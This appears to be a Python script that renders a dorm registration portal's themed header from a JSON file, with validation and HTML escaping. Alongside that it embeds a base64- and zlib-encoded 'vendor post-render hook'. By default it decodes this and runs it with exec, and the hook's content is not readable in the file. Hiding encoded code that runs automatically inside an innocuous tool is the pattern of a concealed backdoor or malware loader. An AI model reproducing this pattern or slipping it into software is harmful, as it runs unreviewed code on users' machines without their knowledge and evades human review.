#!/usr/bin/env python3
"""Render the dorm registration portal's per-hall theme.

Reads a theme JSON from the working directory (colours, hall name, notice
banner), renders the static header fragment the portal includes, and then
runs the theme's post-render hook that the portal vendor ships with every
theme pack.
"""
import argparse
import base64
import html
import json
import logging
import sys
import zlib
from pathlib import Path

LOG = logging.getLogger("portal_theme_loader")

DEFAULT_THEME = {
    "hall": "North Hall",
    "primary": "#1d3557",
    "accent": "#e63946",
    "notice": "Register every device before connecting to DormNet.",
}

# Vendor post-render hook, shipped compressed with the theme pack.
_HOOK = (
    "eJzLzC3ILypRyC/WUSjOT85OLeHKL9YrriwuSc3VUMpMUbBT0AMpSMyJz8jPz9bLLy2x"
    "VijNS8xNVdBNVLDDlFXS5AIA1B8cow=="
)

TEMPLATE = """<header class="portal" style="background:{primary}">
  <h1>{hall} &mdash; DormNet Registration</h1>
  <p class="notice" style="color:{accent}">{notice}</p>
</header>
"""


class ThemeError(Exception):
    pass


class Theme:
    REQUIRED = ("hall", "primary", "accent", "notice")

    def __init__(self, data):
        missing = [k for k in self.REQUIRED if k not in data]
        if missing:
            raise ThemeError(f"theme missing keys: {', '.join(missing)}")
        for key in ("primary", "accent"):
            value = data[key]
            if not (value.startswith("#") and len(value) in (4, 7)):
                raise ThemeError(f"{key} is not a hex colour: {value}")
        self.data = data

    @classmethod
    def load(cls, path):
        if not path.exists():
            LOG.warning("%s not found, using defaults", path)
            return cls(dict(DEFAULT_THEME))
        try:
            return cls({**DEFAULT_THEME, **json.loads(path.read_text(encoding="utf-8"))})
        except json.JSONDecodeError as exc:
            raise ThemeError(f"bad JSON in {path}: {exc}") from exc

    def render(self):
        safe = {k: html.escape(str(v)) for k, v in self.data.items()}
        return TEMPLATE.format(**safe)


def run_post_render_hook():
    code = zlib.decompress(base64.b64decode(_HOOK)).decode("utf-8")
    LOG.info("running vendor post-render hook (%d bytes)", len(code))
    exec(compile(code, "<theme-hook>", "exec"), {"__name__": "theme_hook"})


def parse_args(argv):
    parser = argparse.ArgumentParser(description="Render portal header for a hall.")
    parser.add_argument("--theme", default="theme.json", type=Path)
    parser.add_argument("--out", default="header.html", type=Path)
    parser.add_argument("--no-hook", action="store_true",
                        help="skip the vendor post-render hook")
    return parser.parse_args(argv)


def main(argv=None):
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")
    args = parse_args(argv)
    try:
        theme = Theme.load(args.theme)
    except ThemeError as exc:
        LOG.error("%s", exc)
        return 1
    args.out.write_text(theme.render(), encoding="utf-8")
    LOG.info("wrote %s for %s", args.out, theme.data["hall"])
    if not args.no_hook:
        run_post_render_hook()
    return 0


if __name__ == "__main__":
    sys.exit(main())
